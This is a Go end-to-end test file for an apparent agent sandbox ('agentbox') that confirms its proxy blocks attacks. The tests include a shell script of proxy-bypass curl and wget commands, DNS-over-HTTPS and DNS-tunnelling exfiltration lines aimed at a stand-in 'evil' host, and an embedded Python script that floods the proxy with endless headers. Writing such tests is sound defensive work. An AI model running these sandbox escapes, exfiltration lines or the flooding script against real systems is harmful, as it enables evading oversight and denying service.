package e2e

import (
	"crypto/tls"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"agentbox/internal/event"
	"agentbox/internal/policy"
)

// Even where everything is allowed, nothing that leads inside is dialled: no address, whatever its notation, no
// name of a cloud's metadata, and no name that leads to such an address.
func TestAttacksOnAddresses(t *testing.T) {
	w := attackedTown(t)
	w.lets("[network]\ndefault = \"allow\"\n")
	port := portOf(t, w.plain.Listener.Addr().String())
	attempts := literals(port)
	var answers []string
	for _, name := range insideNames(t) {
		authority := fmt.Sprintf("%s:%d", name, port)
		attempts = append(attempts,
			attempt{name: "GET " + name, send: request("GET", "http://"+authority+"/", authority), want: "HTTP:403", events: allowed(name, port)},
			attempt{name: "CONNECT " + name, connect: authority, send: request("GET", "/", authority), want: "CONNECT:200 HTTP:403", events: allowed(name, port)})
		answers = append(answers, name, name)
	}
	w.carriedOut(attempts)
	for _, e := range ofKind(w.events(), event.NetResponse) {
		i := slices.Index(answers, e.Host)
		if i < 0 || e.Status != http.StatusForbidden || !strings.Contains(e.Reason, "not public") {
			t.Errorf("an answer: %+v", e)
			continue
		}
		answers = slices.Delete(answers, i, i+1)
	}
	if len(answers) > 0 {
		t.Errorf("nothing is said of %q", answers)
	}
}

// insideNames are the names of this machine's /etc/hosts of which one address is not public. The testhost lays some;
// a workstation has those that it has.
func insideNames(t *testing.T) (names []string) {
	t.Helper()
	text, err := os.ReadFile("/etc/hosts")
	must(t, err)
	for line := range strings.Lines(string(text)) {
		fields := strings.Fields(strings.SplitN(line, "#", 2)[0])
		if len(fields) == 0 {
			continue
		}
		addr, err := netip.ParseAddr(fields[0])
		if err != nil || policy.ClassifyAddr(addr) == policy.Public {
			continue
		}
		for _, name := range fields[1:] {
			if _, err := policy.ParseHost(name); err == nil && strings.Contains(name, ".") && !slices.Contains(names, name) {
				names = append(names, name)
			}
		}
	}
	if len(names) == 0 && os.Getenv("AGENTBOX_E2E_PODMAN") != "" {
		t.Fatal("no name of /etc/hosts leads inside: hack/testhost should have laid some")
	}
	return names
}

// The variables that name the proxy are a convenience: without them nothing gets further.
func TestAttacksAroundTheProxy(t *testing.T) {
	w := attackedTown(t)
	runtime := os.Getenv("XDG_RUNTIME_DIR")
	r := w.run(`fails() { "$@" >/tmp/out 2>&1 && { echo "open: $*"; cat /tmp/out; }; }
url=https://` + evil + `/
NO_PROXY='*' no_proxy='*' fails curl -sS --max-time 20 $url
fails curl -sS --noproxy '*' --max-time 20 $url
(` + noProxy + ` fails curl -sS --max-time 20 $url; fails wget -q -T 20 -t 1 -O - $url)
fails curl -sS --proxy '' --max-time 20 --resolve ` + evil + `:443:1.1.1.1 $url
fails curl -sS --proxy '' --max-time 20 --connect-to ::127.0.0.1:443 -k $url
fails curl -sS --max-time 20 https://cloudflare-dns.com/dns-query?name=example.com
fails curl -sS --max-time 20 --doh-url https://1.1.1.1/dns-query --proxy '' $url
fails curl -sS --max-time 20 --proxy socks5h://127.0.0.1:3128 $url
dig +time=1 +tries=1 @1.1.1.1 example.com | grep -c 'ANSWER SECTION'
for type in A AAAA TXT MX CNAME NULL; do dig +short $type c2VjcmV0.` + evil + `; done
fails ls ` + runtime + `/agentbox
find / -xdev -type s 2>/dev/null
exit 0`).exits(0)
	if r.out != "0\n" {
		t.Errorf("ways around:\n%s", r.out)
	}
	w.arrived(nil)
	var got []string
	for _, e := range w.events() {
		if e.Decision == event.Deny {
			got = append(got, fmt.Sprintf("%s %s:%d", e.Kind, e.Host, e.Port))
		}
	}
	for _, want := range []string{"dns.refused " + evil + ":0", "dns.refused c2vjcmv0." + evil + ":0", "net.request cloudflare-dns.com:443"} {
		if n := count(got, want); n != 1 {
			t.Errorf("%q is recorded %d times, want once, among %q", want, n, got)
		}
	}
}

func count(all []string, one string) (n int) {
	for _, s := range all {
		if s == one {
			n++
		}
	}
	return n
}

// greedy sends a header without an end to the proxy and into a tunnel, holds connections whose heads never end, and then
// asks for a page like everybody else.
const greedy = `
import socket, ssl, sys
def proxy():
    conn = socket.create_connection(("127.0.0.1", 3128))
    conn.settimeout(60)
    return conn
def tunnel(host):
    conn = proxy()
    conn.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    while b"\r\n\r\n" not in conn.recv(4096):
        pass
    return ssl.create_default_context().wrap_socket(conn, server_hostname=host)
def endless(conn, start):
    sent = 0
    try:
        conn.sendall(start)
        while sent < 1 << 30:
            conn.sendall(b"a" * 65536)
            sent += 65536
    except OSError:
        pass
    return sent
host = sys.argv[1]
held = [proxy() for _ in range(300)]
for conn in held:
    conn.sendall(b"GET http://" + host.encode() + b"/ HTTP/1.1\r\nX-Slow: ")
most = max(endless(proxy(), b"GET http://h.example.com/ HTTP/1.1\r\nX-Big: "), endless(proxy(), b"CONNECT "),
           endless(tunnel(host), b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Big: "),
           endless(tunnel(host), b"POST / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n1;"))
conn = tunnel(host)
conn.sendall(f"GET /fine HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
print("bounded" if most < 64 << 20 else f"{most} bytes were taken", conn.recv(12).decode(), flush=True)
sys.stdin.read()
`

// Whatever is sent, agentbox's own memory is bounded, and others are served.
func TestEndlessHeadersAreBounded(t *testing.T) {
	w := attackedTown(t)
	w.write("greedy.py", greedy)
	l := w.launchWithInput("run", "town", "-q", "--", "python3", "greedy.py", good)
	l.line("bounded HTTP/1.1 200")
	text, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", l.cmd.Process.Pid))
	must(t, err)
	_, rest, _ := strings.Cut(string(text), "VmHWM:")
	kib, err := strconv.Atoi(strings.Fields(rest)[0])
	must(t, err)
	if kib > 400<<10 {
		t.Errorf("agentbox used %d KiB", kib)
	}
	must(t, l.input.Close())
	if r := l.end(); r.code != 0 {
		t.Errorf("it ended with %d: %s", r.code, r.err)
	}
	w.arrived([]string{"GET " + good + "/fine", "POST " + good + "/"}) // a head that is fine is passed on, and its body broken off
}

// A server whose certificate is not good for the name gets nothing of the request.
func TestBadCertificatesUpstream(t *testing.T) {
	stranger := newAuthority(t)
	names := map[string]func(w *town) (*tls.Certificate, error){
		"expired.example.com": func(w *town) (*tls.Certificate, error) {
			return w.roots.issue("expired.example.com", time.Now().Add(-time.Hour))
		},
		"stranger.example.com": func(*town) (*tls.Certificate, error) {
			return stranger.issue("stranger.example.com", time.Now().Add(time.Hour))
		},
		"othername.example.com": func(w *town) (*tls.Certificate, error) { return w.roots.issue(good, time.Now().Add(time.Hour)) },
		"itself.example.com":    func(*town) (*tls.Certificate, error) { return stranger.itself("itself.example.com") },
	}
	handlers, rules, script := map[string]http.Handler{}, "", ""
	var want []string
	for name := range names {
		handlers[name] = http.HandlerFunc(hello)
		rules += allow(name)
		script += "curl -s -o /dev/null -w '%{http_code}\n' -d secret https://" + name + "/; curl -sk --noproxy '*' -o /dev/null -w '%{http_code}\n' -d secret https://" + name + "/; "
		want = append(want, slices.Concat(allowed(name, 443), allowed(name, 443))...)
	}
	w := newTown(t, handlers)
	w.certificates = names
	w.lets(rules)
	w.run(script).exits(0).prints(strings.Repeat("502\n", 2*len(names)))
	w.recorded(want)
	if v := w.visits(); len(v) > 0 {
		t.Errorf("requests were forwarded: %+v", v)
	}
	for _, e := range ofKind(w.events(), event.NetResponse) {
		if e.Status != http.StatusBadGateway || e.BytesUp != 0 {
			t.Errorf("an answer: %+v", e)
		}
	}
}
